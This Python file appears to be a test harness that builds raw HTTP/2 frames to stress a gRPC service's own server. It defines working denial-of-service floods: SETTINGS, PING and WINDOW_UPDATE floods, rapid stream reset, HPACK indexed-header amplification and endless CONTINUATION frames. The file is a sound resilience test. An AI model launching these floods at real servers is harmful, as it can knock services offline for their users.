"""Frames of HTTP/2 that gRPC 1.51 takes without end: floods of small ones, headers that do not stop, calls beyond the
limit, calls that are reset at once. Written by hand, for no library of HTTP/2 sends them. The server shuts
those down that fill its memory; the others, and the good clients' time, only an edge holds."""

import contextlib
import itertools
import struct
import threading

from attack import EDGE_ONLY, Attack
from raw_http2 import GREETING, SETTINGS, frame, literal

DATA, HEADERS, PRIORITY, RST_STREAM, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4
REQUEST = [(b":method", b"POST"), (b":scheme", b"http"), (b":authority", b"x"), (b"te", b"trailers"),
           (b":path", b"/advantaged.v1.AdvantageService/ComputeAdvantages"), (b"content-type", b"application/grpc")]
LITERALS = b"".join(literal(*header) for header in REQUEST)
# Eight calls that wait for their messages: the connection may bring as many bytes.
OPEN_CALLS = b"".join(frame(HEADERS, END_HEADERS, stream, LITERALS) for stream in range(1, 17, 2))
FIRST_INDEX = 62  # of the newest entry of the dynamic table


def flood(piece, before=b""):
    """The same frames, again and again."""
    yield GREETING + before
    yield from itertools.repeat(piece * max(1, (64 << 10) // len(piece)))


def calls(extra=b"", after=(), at_once=1024):
    """Call upon call, of one byte for each header; `extra`: more of the block, `after`: (kind, flags, payload) of frames
    that follow it."""
    known = b"".join(bytes([0x80 | FIRST_INDEX + i]) for i in range(len(REQUEST), 0, -1))
    stream = 1
    yield GREETING
    while True:
        piece = []
        for _ in range(at_once):
            if stream == 1:
                block = b"".join(literal(*header, indexed=True) for header in REQUEST) + literal(b"a", b"", indexed=True)
            else:
                block = known + extra
            piece.append(frame(HEADERS, END_HEADERS, stream, block))
            piece.extend(frame(kind, flags, stream, payload) for kind, flags, payload in after)
            stream += 2
        yield b"".join(piece)


def headers_without_end(block):
    yield GREETING + frame(HEADERS, 0, 1, LITERALS + literal(b"a", b"", indexed=True))
    yield from itertools.repeat(frame(CONTINUATION, 0, 1, block) * 4)


def discard(connection):
    with contextlib.suppress(OSError):
        while connection.recv(1 << 20):
            pass


class Frames:
    """Sends what `make(*arguments)` yields over each connection; a new one when the server has closed it."""

    def __init__(self, name, make, arguments):
        self.__name__ = name
        self.make = make
        self.arguments = arguments

    def __call__(self, target, connections, rounds):
        over = threading.Event()
        threads = [threading.Thread(target=self.send, args=(target, over)) for _ in range(connections)]
        for thread in threads:
            thread.start()
        for _ in rounds:
            over.wait(0.05)
        over.set()
        for thread in threads:
            thread.join()

    def send(self, target, over):
        while not over.is_set():
            with contextlib.suppress(OSError), target.dial() as connection:
                connection.settimeout(1)  # the server may read no further, and not close
                threading.Thread(target=discard, args=(connection,), daemon=True).start()
                for piece in self.make(*self.arguments):
                    connection.sendall(piece)
                    if over.is_set():
                        break


def attack(name, make, *arguments, connections=20):
    return Attack(Frames(name, make, arguments), connections, EDGE_ONLY)


def guarded(name, make, *arguments, connections=20, short=False):
    """One that the server's guard of its memory ends."""
    return Attack(Frames(name, make, arguments), connections, "advantaged_connections_shut_down_total", short=short,
                  guarded=True)


SETTING = frame(SETTINGS, payload=struct.pack(">HI", 6, 20000))
RESET = (RST_STREAM, 0, struct.pack(">I", 8))
REFERENCES = bytes([0x80 | FIRST_INDEX])

ATTACKS = [
    attack("settings_flood", flood, SETTING),
    attack("settings_flood_beside_calls", flood, SETTING, OPEN_CALLS),
    attack("ping_flood", flood, frame(PING, payload=bytes(8))),
    attack("priority_flood", flood, frame(PRIORITY, stream=1, payload=bytes(5))),
    attack("window_flood", flood, frame(WINDOW_UPDATE, payload=struct.pack(">I", 1))),
    attack("unknown_frames_flood", flood, frame(0x77)),
    attack("empty_data_flood", flood, frame(DATA, stream=1), OPEN_CALLS),
    guarded("calls_beyond_the_limit", calls, connections=1),
    guarded("calls_beyond_the_limit_everywhere", calls),
    guarded("indexed_headers", calls, REFERENCES * 700, (), 64),
    attack("rapid_reset", calls, b"", (RESET,)),
    attack("rapid_reset_of_whole_calls", calls, b"", ((DATA, END_STREAM, bytes(5)), RESET)),
    attack("headers_without_end", headers_without_end, b"".join(literal(b"h%d" % i, bytes(100)) for i in range(140))),
    attack("indexed_headers_without_end", headers_without_end, REFERENCES * 16000),
    attack("empty_headers_without_end", headers_without_end, b""),
]
